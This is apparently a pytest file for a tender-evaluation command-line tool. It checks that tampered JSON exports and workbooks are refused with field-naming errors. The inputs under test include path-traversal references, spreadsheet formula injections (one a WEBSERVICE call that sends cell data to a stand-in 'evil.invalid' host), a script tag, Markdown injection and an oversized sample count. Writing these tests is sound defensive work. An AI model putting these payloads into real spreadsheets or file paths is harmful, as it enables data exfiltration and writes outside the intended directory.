"""A saved export is an input: an edited one can neither write outside --out nor put text into
a workbook formula, and a duplicate key or a non-number is refused (issue: inputs, holes)."""

from __future__ import annotations

import json
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from conftest import EXAMPLE, run_cli

Edit = Callable[[dict[str, Any]], None]


@pytest.fixture(scope="module")
def saved(tmp_path_factory: pytest.TempPathFactory) -> Path:
    tender = tmp_path_factory.mktemp("saved") / "tender"
    shutil.copytree(EXAMPLE, tender, ignore=shutil.ignore_patterns("out"))
    run_cli(["evaluate", tender, "--format", "json"])
    return next((tender / "out").glob("*-evaluation.json"))


def _edited(saved: Path, tmp_path: Path, edit: Edit) -> Path:
    document = json.loads(saved.read_text())
    edit(document)
    path = tmp_path / "edited.json"
    path.write_text(json.dumps(document))
    return path


def _set(*path: str | int, to: Any) -> Edit:
    def edit(document: dict[str, Any]) -> None:
        node: Any = document
        for part in path[:-1]:
            node = node[part]
        node[path[-1]] = to

    return edit


HOSTILE = {
    "a reference that climbs out of --out": (
        _set("tender", "reference", to="../../../victim"),
        "tender.reference: String should match pattern",
    ),
    "an absolute path as the reference": (
        _set("tender", "reference", to="/tmp/victim"),
        "tender.reference: String should match pattern",
    ),
    "text in the money per point": (
        _set("method", "money_per_point", to='1+WEBSERVICE("http://evil.invalid/"&A1)'),
        "method.money_per_point: Input should be a valid number",
    ),
    "text in the disagreement share": (
        _set("method", "disagreement_share", to="0.3)+WEBSERVICE(A1"),
        "method.disagreement_share: Input should be a valid number",
    ),
    "a formula as a bid's raw input": (
        _set("bids", 0, "criteria", 0, "raw", to="=HYPERLINK(A1)"),
        "bids[0].criteria[0].raw: Input should be a valid number",
    ),
    "a bid id that names a file elsewhere": (
        _set("bids", 1, "id", to="../x"),
        "bids[1].id: String should match pattern",
    ),
    "an unregistered price formula": (
        _set("method", "price", "formula", to="secret_formula"),
        "method.price.formula: Input should be",
    ),
    "a scale bound that is text": (
        _set("criteria", 6, "spec", "scale", "max", to="5)+1+(0"),
        "criteria[6].spec.scale.max: Input should be a valid integer",
    ),
}


@pytest.mark.parametrize("case", list(HOSTILE))
def test_an_edited_export_is_refused_naming_the_field(
    case: str, saved: Path, tmp_path: Path
) -> None:
    edit, message = HOSTILE[case]
    path = _edited(saved, tmp_path, edit)
    out = tmp_path / "out"
    result = run_cli(["export", path, "--out", out, "--format", "xlsx,md,json"], exit_code=2)
    assert message in result.stderr
    assert str(path) in result.stderr
    assert not out.exists()
    assert not (tmp_path.parent / "victim-report.md").exists()


def test_verify_refuses_an_edited_export_too(saved: Path, tmp_path: Path) -> None:
    path = _edited(saved, tmp_path, _set("tender", "reference", to="../x"))
    result = run_cli(["verify", saved.parent.parent, path], exit_code=2)
    assert "tender.reference" in result.stderr


def test_a_duplicate_key_is_refused(saved: Path, tmp_path: Path) -> None:
    text = saved.read_text()
    total = '"total": '
    forged = text.replace(total, '"total": 99.99, ' + total, 1)
    path = tmp_path / "forged.json"
    path.write_text(forged)
    result = run_cli(["export", path, "--out", tmp_path / "out"], exit_code=2)
    assert "the key 'total' is given twice in one object" in result.stderr


def test_nan_and_infinity_are_not_numbers(saved: Path, tmp_path: Path) -> None:
    path = tmp_path / "nan.json"
    path.write_text(
        saved.read_text().replace('"disagreement_share": 0.3', '"disagreement_share": NaN')
    )
    result = run_cli(["export", path, "--out", tmp_path / "out"], exit_code=2)
    assert "NaN is not a number JSON allows" in result.stderr


def test_an_honest_export_still_renders(saved: Path, tmp_path: Path) -> None:
    out = tmp_path / "out"
    run_cli(["export", saved, "--out", out, "--format", "xlsx,md"])
    assert sorted(p.suffix for p in out.iterdir()) == [".md", ".svg", ".svg", ".svg", ".xlsx"]


MORE_HOSTILE = {
    "a sample count that would never finish": (
        _set("audit", "samples", to=10**9),
        "audit.samples: Input should be less than or equal to 10000000",
    ),
    "a linear value function without its bounds": (
        _set("criteria", 13, "spec", "value_function", to={"type": "linear"}),
        "value_function.linear.worst: Field required",
    ),
    "Markdown in the weighting": (
        _set("method", "weighting", to="percent\n# Winner: someone else"),
        "method.weighting: Input should be 'percent' or 'points'",
    ),
}


@pytest.mark.parametrize("case", list(MORE_HOSTILE))
def test_more_edits_are_refused_naming_the_field(case: str, saved: Path, tmp_path: Path) -> None:
    edit, message = MORE_HOSTILE[case]
    path = _edited(saved, tmp_path, edit)
    result = run_cli(["export", path, "--out", tmp_path / "out"], exit_code=2)
    assert message in result.stderr


def test_the_price_formula_is_described_by_the_registry_not_the_file(
    saved: Path, tmp_path: Path
) -> None:
    path = _edited(saved, tmp_path, _set("method", "price_description", to="<script>x</script>"))
    run_cli(["export", path, "--out", tmp_path / "out", "--format", "md"])
    report = next((tmp_path / "out").glob("*-report.md")).read_text()
    assert "<script>" not in report
    assert "the lowest price divided by the bid's price" in report


def test_verify_refuses_absurd_settings_on_the_audit_sheet(tmp_path: Path) -> None:
    """An edited sample count of 10^10 made verify run for ever; a seed of 'abc' crashed it."""
    from openpyxl import load_workbook

    tender = tmp_path / "tender"
    shutil.copytree(EXAMPLE, tender, ignore=shutil.ignore_patterns("out"))
    run_cli(["evaluate", tender, "--format", "xlsx"])
    workbook = next((tender / "out").glob("*-evaluation.xlsx"))
    for label, value, message in (
        ("Samples", "10000000000", "Audit: Samples '10000000000' is not a whole number"),
        ("Seed", "abc", "Audit: Seed 'abc' is not a whole number"),
    ):
        book = load_workbook(workbook)
        sheet = book["Audit"]
        row = next(r for r in range(1, 40) if sheet.cell(row=r, column=1).value == label)
        sheet.cell(row=row, column=2).value = value
        edited = tmp_path / f"edited-{label}.xlsx"
        book.save(edited)
        assert message in run_cli(["verify", tender, edited], exit_code=2).stderr
